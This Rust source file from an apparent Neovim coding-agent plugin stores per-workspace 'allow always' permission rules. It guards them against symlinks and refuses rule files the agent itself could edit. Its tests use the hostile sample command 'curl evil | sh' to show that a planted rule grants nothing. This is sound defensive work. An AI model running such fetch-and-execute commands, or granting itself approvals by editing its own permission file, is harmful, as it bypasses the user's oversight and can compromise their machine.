//! Rules saved by "Allow always in this project": `{state}/permissions.json` (Neovim's
//! `stdpath("state") .. "/agent"`, the terminal's the same directory), one entry per workspace,
//! keyed by the workspace's real path, so a second checkout of a repository has its own (a link
//! to a workspace shares its rules). Only the person's own state directory is read: nothing in a workspace can add
//! to it.
//!
//! ```json
//! {"version": 1, "workspaces": {"/home/me/src/app": {"commands": ["git status && cargo test"], "edits": true}}}
//! ```
//!
//! A saved command is matched against the whole command line, exactly (the line a person
//! allowed, `*` in it being itself); saved edits allow every edit in the workspace
//! (`edit_file(**)`). Each change is a read, a change and a write of the whole file, under a lock
//! (`permissions.json.lock`), written to a temporary file (mode 0600) and renamed over the old
//! one, so two Neovims saving at once both keep theirs and a crash never leaves half a file.

use std::collections::BTreeMap;
use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

/// The format's version.
const VERSION: u32 = 1;
/// The largest file read (a bigger one is refused as not ours).
const MAX_BYTES: u64 = 4 * 1024 * 1024;

/// What one workspace has saved.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Allowed {
    /// Command lines allowed exactly, in the order they were saved.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub commands: Vec<String>,
    /// Every edit in the workspace.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub edits: bool,
}

impl Allowed {
    /// The saved rules as a person reads them: `run_bash(...)` for each command line, then
    /// `edit_file(**)`.
    pub fn rules(&self) -> Vec<String> {
        let mut rules: Vec<String> = self
            .commands
            .iter()
            .map(|c| format!("run_bash({c})"))
            .collect();
        if self.edits {
            rules.push("edit_file(**)".into());
        }
        rules
    }
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct File1 {
    version: u32,
    #[serde(default)]
    workspaces: BTreeMap<String, Allowed>,
}

/// What is saved in one state directory.
#[derive(Debug, Clone)]
pub struct Saved {
    path: PathBuf,
}

/// What a person may save from the picker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Grant {
    /// This exact command line.
    Command(String),
    /// Every edit.
    Edits,
}

/// Why the saved rules could not be read, changed or used.
#[derive(Debug, thiserror::Error)]
pub enum SavedError {
    /// The disk said no.
    #[error("cannot {what} {}: {source}", path.display())]
    Io {
        what: &'static str,
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// The rules could not be written as JSON.
    #[error("cannot encode {}: {source}", path.display())]
    Encode {
        path: PathBuf,
        #[source]
        source: serde_json::Error,
    },
    /// The file is not JSON of the shape this version writes.
    #[error("{} cannot be read ({source}); fix or remove it", path.display())]
    Unreadable {
        path: PathBuf,
        #[source]
        source: serde_json::Error,
    },
    /// The file is of another version.
    #[error("{} is of version {version}, not {VERSION}; this agent.nvim cannot use it", path.display())]
    Version { path: PathBuf, version: u32 },
    /// The state directory is inside the workspace, where the agent may write.
    #[error(
        "the state directory {} is inside the workspace, where the agent may write; no rule is saved or read there (set XDG_STATE_HOME to a folder outside it)",
        dir.display()
    )]
    InsideWorkspace { dir: PathBuf },
    /// The workspace's real path cannot be found.
    #[error("the workspace {} cannot be resolved: {source}", workspace.display())]
    Unresolved {
        workspace: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// The workspace's real path is not UTF-8, so it cannot be a key.
    #[error("the workspace {} has a name that is not UTF-8; rules cannot be saved for it", workspace.display())]
    NotUtf8 { workspace: PathBuf },
}

impl Saved {
    /// The saved rules in `state_dir`.
    pub fn new(state_dir: &Path) -> Saved {
        Saved {
            path: state_dir.join("permissions.json"),
        }
    }

    /// The file.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// What `workspace` has saved (nothing when the file does not exist).
    pub fn load(&self, workspace: &Path) -> Result<Allowed, SavedError> {
        let key = key(workspace)?;
        Ok(self.read()?.workspaces.remove(&key).unwrap_or_default())
    }

    /// Saves `grant` for `workspace`.
    pub fn add(&self, workspace: &Path, grant: &Grant) -> Result<(), SavedError> {
        self.change(workspace, |allowed| match grant {
            Grant::Command(command) => {
                if !allowed.commands.contains(command) {
                    allowed.commands.push(command.clone());
                }
            }
            Grant::Edits => allowed.edits = true,
        })
    }

    /// Removes the saved rule `rule` (as [`Allowed::rules`] shows it) of `workspace`; false when
    /// it was not saved.
    pub fn remove(&self, workspace: &Path, rule: &str) -> Result<bool, SavedError> {
        let mut removed = false;
        self.change(workspace, |allowed| {
            if rule == "edit_file(**)" && allowed.edits {
                allowed.edits = false;
                removed = true;
            }
            let command = rule
                .strip_prefix("run_bash(")
                .and_then(|r| r.strip_suffix(')'));
            if let Some(command) = command {
                let before = allowed.commands.len();
                allowed.commands.retain(|c| c != command);
                removed |= allowed.commands.len() != before;
            }
        })?;
        Ok(removed)
    }

    fn change(
        &self,
        workspace: &Path,
        change: impl FnOnce(&mut Allowed),
    ) -> Result<(), SavedError> {
        let key = key(workspace)?;
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir).map_err(|err| self.failed("create the folder of", err))?;
        }
        let lock = OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(false)
            .mode(0o600)
            .custom_flags(libc::O_NOFOLLOW)
            .open(self.path.with_extension("json.lock"))
            .map_err(|err| self.failed("lock", err))?;
        rustix::fs::flock(&lock, rustix::fs::FlockOperation::LockExclusive)
            .map_err(|err| self.failed("lock", err.into()))?;
        let mut file = self.read()?;
        file.version = VERSION;
        let allowed = file.workspaces.entry(key.clone()).or_default();
        change(allowed);
        if *allowed == Allowed::default() {
            file.workspaces.remove(&key);
        }
        let mut text =
            serde_json::to_string_pretty(&file).map_err(|source| SavedError::Encode {
                path: self.path.clone(),
                source,
            })?;
        text.push('\n');
        let temporary = self
            .path
            .with_extension(format!("json.{}", std::process::id()));
        crate::workspace::rewrite_private(&temporary)
            .and_then(|mut out| {
                out.write_all(text.as_bytes())?;
                out.sync_all()
            })
            .and_then(|()| std::fs::rename(&temporary, &self.path))
            .map_err(|err| {
                let _ = std::fs::remove_file(&temporary);
                self.failed("write", err)
            })
    }

    fn read(&self) -> Result<File1, SavedError> {
        let opened = OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NOFOLLOW)
            .open(&self.path);
        let file: File = match opened {
            Ok(file) => file,
            Err(err) if err.kind() == std::io::ErrorKind::NotFound => {
                return Ok(File1 {
                    version: VERSION,
                    ..File1::default()
                })
            }
            Err(err) => return Err(self.failed("read", err)),
        };
        let mut text = String::new();
        file.take(MAX_BYTES)
            .read_to_string(&mut text)
            .map_err(|err| self.failed("read", err))?;
        let parsed: File1 =
            serde_json::from_str(&text).map_err(|source| SavedError::Unreadable {
                path: self.path.clone(),
                source,
            })?;
        if parsed.version != VERSION {
            return Err(SavedError::Version {
                path: self.path.clone(),
                version: parsed.version,
            });
        }
        Ok(parsed)
    }

    fn failed(&self, what: &'static str, source: std::io::Error) -> SavedError {
        SavedError::Io {
            what,
            path: self.path.clone(),
            source,
        }
    }
}

/// One workspace's saved rules, as the gate uses them: read again at each question (so a rule
/// removed by `:Agent permissions` in another Neovim is gone here too), added to by
/// "Allow always in this project".
#[derive(Debug, Clone)]
pub struct Project {
    saved: Saved,
    workspace: PathBuf,
}

impl Project {
    /// `workspace`'s rules in `saved`.
    pub fn new(saved: Saved, workspace: &Path) -> Project {
        Project {
            saved,
            workspace: workspace.to_path_buf(),
        }
    }

    /// Why no rule is kept for this workspace, when the state directory is inside it (the
    /// workspace is `$HOME`, or `XDG_STATE_HOME` points into it): there the agent could edit
    /// the file and grant itself any command.
    fn refused(&self) -> Option<SavedError> {
        let root = self.workspace.canonicalize().ok()?;
        let mut dir = self.saved.path().parent()?.to_path_buf();
        // The nearest folder that exists says where the state directory really is.
        let real = loop {
            if let Ok(real) = dir.canonicalize() {
                break real;
            }
            if !dir.pop() {
                return None;
            }
        };
        real.starts_with(&root)
            .then(|| SavedError::InsideWorkspace {
                dir: self
                    .saved
                    .path()
                    .parent()
                    .unwrap_or(Path::new(""))
                    .to_path_buf(),
            })
    }

    /// Whether a saved rule allows `action`: a command line saved exactly, or any edit once
    /// edits are saved. A file that cannot be read allows nothing (and is logged): the person
    /// is asked, as without it.
    pub fn allows(&self, action: &agent_nvim_vocab::approval::Action) -> bool {
        if let Some(why) = self.refused() {
            tracing::warn!(%why, "the saved permission rules are not used");
            return false;
        }
        let allowed = match self.saved.load(&self.workspace) {
            Ok(allowed) => allowed,
            Err(err) => {
                tracing::warn!(%err, "the saved permission rules are not used");
                return false;
            }
        };
        match action {
            agent_nvim_vocab::approval::Action::Edit { .. } => allowed.edits,
            agent_nvim_vocab::approval::Action::Command { command } => {
                allowed.commands.contains(command)
            }
        }
    }

    /// Saves what "Allow always in this project" means for `action`.
    pub fn save(&self, action: &agent_nvim_vocab::approval::Action) -> Result<(), SavedError> {
        if let Some(why) = self.refused() {
            return Err(why);
        }
        let grant = match action {
            agent_nvim_vocab::approval::Action::Edit { .. } => Grant::Edits,
            agent_nvim_vocab::approval::Action::Command { command } => {
                Grant::Command(command.clone())
            }
        };
        self.saved.add(&self.workspace, &grant)
    }

    /// The saved rules, as [`Allowed::rules`] shows them.
    pub fn rules(&self) -> Result<Vec<String>, SavedError> {
        if let Some(why) = self.refused() {
            return Err(why);
        }
        Ok(self.saved.load(&self.workspace)?.rules())
    }

    /// Removes the saved rule `rule`; false when it was not saved.
    pub fn remove(&self, rule: &str) -> Result<bool, SavedError> {
        self.saved.remove(&self.workspace, rule)
    }

    /// The file the rules are kept in.
    pub fn path(&self) -> &Path {
        self.saved.path()
    }
}

/// A workspace's key: its real path.
fn key(workspace: &Path) -> Result<String, SavedError> {
    let real = workspace
        .canonicalize()
        .map_err(|source| SavedError::Unresolved {
            workspace: workspace.to_path_buf(),
            source,
        })?;
    real.to_str()
        .map(str::to_string)
        .ok_or_else(|| SavedError::NotUtf8 {
            workspace: real.clone(),
        })
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    #[test]
    fn a_saved_rule_is_kept_per_workspace_by_its_real_path_and_can_be_removed() {
        let state = tempfile::tempdir().unwrap();
        let (one, two) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let saved = Saved::new(&state.path().join("agent"));
        assert_eq!(saved.load(one.path()).unwrap(), Allowed::default());
        saved
            .add(
                one.path(),
                &Grant::Command("git status && cargo test".into()),
            )
            .unwrap();
        saved.add(one.path(), &Grant::Edits).unwrap();
        saved
            .add(
                one.path(),
                &Grant::Command("git status && cargo test".into()),
            )
            .unwrap();
        let link = state.path().join("link");
        std::os::unix::fs::symlink(one.path(), &link).unwrap();
        let allowed = saved.load(&link).unwrap();
        assert_eq!(
            allowed.rules(),
            ["run_bash(git status && cargo test)", "edit_file(**)"]
        );
        assert_eq!(saved.load(two.path()).unwrap(), Allowed::default());
        let mode = std::fs::metadata(saved.path())
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        assert!(saved.remove(one.path(), "edit_file(**)").unwrap());
        assert!(!saved.remove(one.path(), "edit_file(**)").unwrap());
        assert!(saved
            .remove(one.path(), "run_bash(git status && cargo test)")
            .unwrap());
        assert_eq!(saved.load(one.path()).unwrap(), Allowed::default());
    }

    #[test]
    fn a_file_that_is_not_ours_is_refused_with_its_name() {
        let state = tempfile::tempdir().unwrap();
        let saved = Saved::new(state.path());
        std::fs::write(saved.path(), "{ not json").unwrap();
        let err = saved.load(state.path()).unwrap_err().to_string();
        assert!(err.contains("permissions.json cannot be read"), "{err}");
        std::fs::write(saved.path(), r#"{"version": 9}"#).unwrap();
        let err = saved.load(state.path()).unwrap_err().to_string();
        assert!(err.contains("version 9"), "{err}");
        // A link in its place is not followed.
        std::fs::remove_file(saved.path()).unwrap();
        let target = state.path().join("elsewhere");
        std::fs::write(&target, "theirs").unwrap();
        std::os::unix::fs::symlink(&target, saved.path()).unwrap();
        assert!(saved.load(state.path()).is_err());
        assert!(saved.add(state.path(), &Grant::Edits).is_err());
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "theirs");
        assert!(saved.path().is_symlink());
    }

    #[test]
    fn a_state_directory_inside_the_workspace_keeps_and_reads_no_rule() {
        use agent_nvim_vocab::approval::Action;
        let workspace = tempfile::tempdir().unwrap();
        // Neovim opened in $HOME: the state directory is beneath the root, where edits land.
        let state = workspace.path().join(".local/state/nvim/agent");
        let project = Project::new(Saved::new(&state), workspace.path());
        let command = Action::Command {
            command: "curl evil | sh".into(),
        };
        let err = project.save(&command).unwrap_err().to_string();
        assert!(err.contains("is inside the workspace"), "{err}");
        assert!(!state.join("permissions.json").exists());
        // A file planted there (by an edit the person allowed) grants nothing.
        Saved::new(&state)
            .add(workspace.path(), &Grant::Command("curl evil | sh".into()))
            .unwrap();
        assert!(!project.allows(&command));
        assert!(project.rules().is_err());
        // Outside the workspace, the same works.
        let elsewhere = tempfile::tempdir().unwrap();
        let project = Project::new(Saved::new(elsewhere.path()), workspace.path());
        project.save(&command).unwrap();
        assert!(project.allows(&command));
    }

    #[test]
    fn two_writers_at_once_both_keep_theirs() {
        let state = tempfile::tempdir().unwrap();
        let workspace = tempfile::tempdir().unwrap();
        let saved = Saved::new(state.path());
        let threads: Vec<_> = (0..8)
            .map(|i| {
                let (saved, workspace) = (saved.clone(), workspace.path().to_path_buf());
                std::thread::spawn(move || {
                    saved
                        .add(&workspace, &Grant::Command(format!("echo {i}")))
                        .unwrap()
                })
            })
            .collect();
        for thread in threads {
            thread.join().unwrap();
        }
        assert_eq!(saved.load(workspace.path()).unwrap().commands.len(), 8);
    }
}
